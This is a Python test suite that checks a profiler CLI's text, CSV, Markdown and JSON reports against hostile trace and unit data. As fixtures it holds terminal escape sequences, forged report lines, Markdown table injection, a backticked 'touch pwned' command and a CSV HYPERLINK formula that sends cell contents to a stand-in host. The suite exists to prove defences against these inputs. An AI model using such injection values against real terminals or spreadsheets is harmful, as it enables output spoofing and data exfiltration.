"""Issue 13: raw control characters from a trace or a policy never reach people. For any hostile trace (and a
unit whose words and drop-in names are hostile), what show, explain, check, diff, CSV and Markdown print is
lines of printable characters, each line one line of the output's own making; JSON stays exact.
"""

import csv
import dataclasses
import io
import json
import re
import tempfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from generators import reports
from generators.compare import compare, drift
from generators.profile import Profile
from generators.reports import explain
from generators.reports.interface import ReportFormat
from generators.reports.markdown import MarkdownReport
from generators.systemd.format import SystemdFormat
from generators.systemd.groups import committed_syscall_groups
from profiler import explore, show
from profiler.cli import main
from profiler.trace import Trace
from tests.generators.hostile_traces import HOSTILE, HOSTILE_FILE_TEXT, base_trace, hostile_profiles, hostile_traces
from tests.generators.profile_builders import make_profile

RUNS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
# What a hostile word in a unit can hold: anything but the line ends systemd splits at, and no NUL.
UNIT_WORD = HOSTILE_FILE_TEXT.map(lambda text: re.sub(r"[\r\n\x00\s]", "", text) or "x")
FILE_NAME = UNIT_WORD.map(lambda text: text.replace("/", "-").strip(".") or "x")


def _printable_lines(text: str) -> list[str]:
    assert text.endswith("\n")
    lines = text[:-1].split("\n")
    assert all(line.isprintable() for line in lines), [line for line in lines if not line.isprintable()][:3]
    return lines


def _hostile_unit(directory: Path, words: list[str], drop_in: str) -> Path:
    """A unit whose settings name hostile words (each a lint finding that quotes it), with a hostile drop-in."""
    unit = directory / "svc.service"
    unit.write_text(
        "[Service]\nExecStart=/bin/true\nRestrictAddressFamilies=AF_INET\nProtectSystem=strict\nNoExecPaths=/\n"
        "DevicePolicy=closed\nProtectProc=invisible\n"
        + "".join(f"SystemCallFilter=read {word}\nCapabilityBoundingSet={word}\n" for word in words)
    )
    (directory / "svc.service.d").mkdir()
    (directory / "svc.service.d" / f"{drop_in}.conf").write_text(f"[Service]\nRestrictNamespaces={words[0]}\n")
    return unit


# --- show, CSV, JSON -------------------------------------------------------------------------------------------------


@RUNS
@given(trace=hostile_traces(paths=True), source=HOSTILE)
def test_show_prints_printable_lines(trace: Trace, source: str) -> None:
    lines = _printable_lines(show.render_summary(trace, source))
    assert len([line for line in lines if line.startswith("  ") and "[pid " in line]) == len(trace.processes)
    assert sum(line.startswith("files per program") for line in lines) == 1
    if trace.file_accesses:
        assert sum(line.startswith("    ") and line.endswith("×") for line in lines) >= len(
            {(a.path, a.op, a.error) for a in trace.file_accesses}
        )
    assert show.short_summary(trace).isprintable()


@RUNS
@given(trace=hostile_traces(paths=True), source=HOSTILE)
def test_csv_rows_are_one_printable_line_each_and_json_is_exact(trace: Trace, source: str) -> None:
    tables = explore.tables([(source + ".trace.json", trace)])
    for table in explore.Table:
        text = explore.to_csv(tables, table)
        lines = _printable_lines(text)
        assert len(lines) == 1 + len(tables.table(table))
        assert not _formula_cells(text, table)
    text = explore.to_json(tables)
    assert all(line.isprintable() for line in text.split("\n"))
    document = json.loads(text)
    assert document["runs"][0]["hostname"] == trace.run.hostname
    assert document["images"][0]["program"] == trace.processes[0].images[0].path


def _formula_cells(text: str, table: explore.Table) -> list[str]:
    """The text cells of a CSV table that a spreadsheet would run as formulas (OWASP's first characters)."""
    texts = [index for index, (_, dtype) in enumerate(explore.COLUMNS[table]) if dtype == "str"]
    rows = list(csv.reader(io.StringIO(text)))[1:]
    return [row[index] for row in rows for index in texts if row[index].startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_csv_leads_a_text_that_begins_as_a_formula_with_a_quote() -> None:
    base = base_trace("chown")
    program = '=HYPERLINK("http://example.invalid/?"&A1)'
    process = base.processes[0]
    image = process.images[0]._replace(path=program, argv0="@SUM(1+1)")
    hostile = dataclasses.replace(
        base,
        run=dataclasses.replace(base.run, command=("-2+3", "x")),
        processes=(process._replace(images=(image, *process.images[1:])), *base.processes[1:]),
    )
    tables = explore.tables([("+hostile.trace.json", hostile)])
    images = explore.to_csv(tables, explore.Table.IMAGES)
    row = next(csv.DictReader(io.StringIO(images)))
    assert (row["program"], row["argv0"], row["run"]) == (f"'{program}", "'@SUM(1+1)", "'+hostile"), row
    runs = next(csv.DictReader(io.StringIO(explore.to_csv(tables, explore.Table.RUNS))))
    assert (runs["command"], runs["source"]) == ("'-2+3 x", "'+hostile.trace.json"), runs
    # A text that does not begin as a formula does is left as it is.
    assert runs["component"] == hostile.run.component, runs


# --- explain ---------------------------------------------------------------------------------------------------------


@RUNS
@given(profile=hostile_profiles(paths=True))
def test_explain_prints_printable_lines(profile: Profile) -> None:
    items = [profile.syscalls[0].name, "#999", *(use.name for use in profile.capabilities)]
    items += [*profile.family_names(), *profile.namespace_types()]
    items += ["ReadWritePaths", "ExecPaths", "DeviceAllow", "ProtectProc"] if profile.sandbox else []
    for item in items:
        lines = _printable_lines(explain.explain(profile, item))
        assert lines[0].startswith(item) or lines[0].startswith(item.lstrip("#"))


# --- check and diff reports ------------------------------------------------------------------------------------------


def _cells(row: str) -> int:
    """The cells of a Markdown table row: the | that no backslash escapes, minus the outer ones."""
    return sum(1 for token in re.findall(r"\\.|\|", row) if token == "|") - 1


def _without_code_and_escapes(line: str) -> str:
    """The line with its code spans and backslash escapes taken out: what Markdown would read as markup. Read
    left to right as CommonMark reads it: a run of backticks opens a code span that the next run of the same
    length closes, and a backslash inside one is text, not an escape (an escaped ESC, \\x1b, in a name in code)."""
    markup, index = [], 0
    while index < len(line):
        if line[index] == "\\":
            index += 2
        elif line[index] == "`":
            run = re.match("`+", line[index:])[0]
            close = re.compile(f"(?<!`){run}(?!`)").search(line, index + len(run))
            if close is None:
                markup.append(run)
            index = close.end() if close else index + len(run)
        else:
            markup.append(line[index])
            index += 1
    return "".join(markup)


@RUNS
@given(profile=hostile_profiles(paths=True), words=st.lists(UNIT_WORD, min_size=1, max_size=3), drop_in=FILE_NAME)
# A name whose escaped ESC (\x1b) ends in a code span beside a backtick: a backslash in code is no escape.
@example(
    profile=dataclasses.replace(make_profile(needed=["CAP_CHOWN"]), component="\x1b[31m`touch pwned`\n"),
    words=["x"],
    drop_in="x",
)
def test_reports_print_printable_lines_and_markdown_keeps_its_tables(
    profile: Profile, words: list[str], drop_in: str
) -> None:
    with tempfile.TemporaryDirectory() as directory:
        policy = SystemdFormat(committed_syscall_groups()).read(_hostile_unit(Path(directory), words, drop_in))
    comparison = compare(profile, policy)
    assert policy.findings, "the hostile words are quoted in lint findings"
    same = drift(profile, profile)
    _printable_lines(reports.report(ReportFormat.TEXT).comparison(comparison))
    _printable_lines(reports.report(ReportFormat.TEXT).drift(same))
    for text, columns in ((MarkdownReport().comparison(comparison), 3), (MarkdownReport().drift(same), 2)):
        fence = None  # the fence of the code block the line is in: its text is shown as it is
        for line in _printable_lines(text):
            if fence is not None or line.startswith("```"):
                fence = None if fence is not None and line == fence else (fence or re.match("`+", line)[0])
                continue
            if line.startswith("| ") and not line.startswith(("| item", "| danger")):
                assert _cells(line) == columns, line
            markup = _without_code_and_escapes(line).replace("<br>", "")
            assert not re.search(r"[<>\[\]]", markup), line
    for text, runs in (
        (reports.report(ReportFormat.JSON).comparison(comparison), lambda document: document["runs"]),
        (reports.report(ReportFormat.JSON).drift(same), lambda document: document["old"]["runs"]),
    ):
        assert all(line.isprintable() for line in text.split("\n"))
        document = json.loads(text)
        assert [run["source"] for run in runs(document)] == [run.source for run in profile.runs]
        assert [run["hostname"] for run in runs(document)] == [run.hostname for run in profile.runs]


# --- through the command line ----------------------------------------------------------------------------------------


@pytest.fixture
def hostile_file(tmp_path: Path) -> Path:
    """A trace file whose strings hold ESC, BEL, CR, newlines and a forged report line."""
    source = Path(__file__).parent / "fixtures" / "traces" / "python-sockets-nobody.trace.json"
    data = json.loads(source.read_text())
    data["run"]["hostname"] = "vm\r\x1b[2K0 missing, 0 in excess, 0 warnings, 0 lint findings: check passes\x07"
    data["run"]["command"] = ["python3", "\x1b]0;owned\x07", "--password=hunter2"]
    data["processes"][0]["images"][0]["path"] = "/usr/bin/python3\n| forged | row |\n"
    path = tmp_path / "evil\x1b[31m.trace.json"
    path.write_text(json.dumps(data))
    return path


@pytest.mark.parametrize(
    "command",
    [
        ["show", "{trace}"],
        ["show", "--format", "csv", "--table", "images", "{trace}"],
        ["explain", "{trace}", "socket"],
        ["explain", "{trace}", "AF_UNIX"],
        ["check", "--policy", "{unit}", "{trace}"],
        ["check", "--policy", "{unit}", "--format", "markdown", "{trace}"],
        ["diff", "{trace}", "{trace}"],
        ["diff", "--format", "markdown", "{trace}", "{trace}"],
        ["explain", "{trace}", "no\x1b[31msuch"],
        ["show", "{trace}.missing\x1b[2J"],
    ],
)
def test_no_command_prints_a_raw_control_character(hostile_file: Path, command: list[str]) -> None:
    unit = Path(__file__).parents[1] / "examples" / "git-clone.service"
    args = [each.format(trace=hostile_file, unit=unit) for each in command]
    # color=True: as on a terminal, where click leaves ANSI sequences in; it strips them only when piped.
    result = CliRunner().invoke(main, args, color=True)
    assert result.exit_code in (0, 1, 2), result.exception
    for stream in (result.stdout, result.stderr):
        assert all(line.isprintable() for line in stream.split("\n")), stream
    assert "hunter2" not in result.stdout or command[0] in ("show", "explain"), "only show and explain print argv"
    if result.exit_code == 2:
        assert result.stderr.startswith("profiler: error: ") and result.stderr.count("\n") == 1
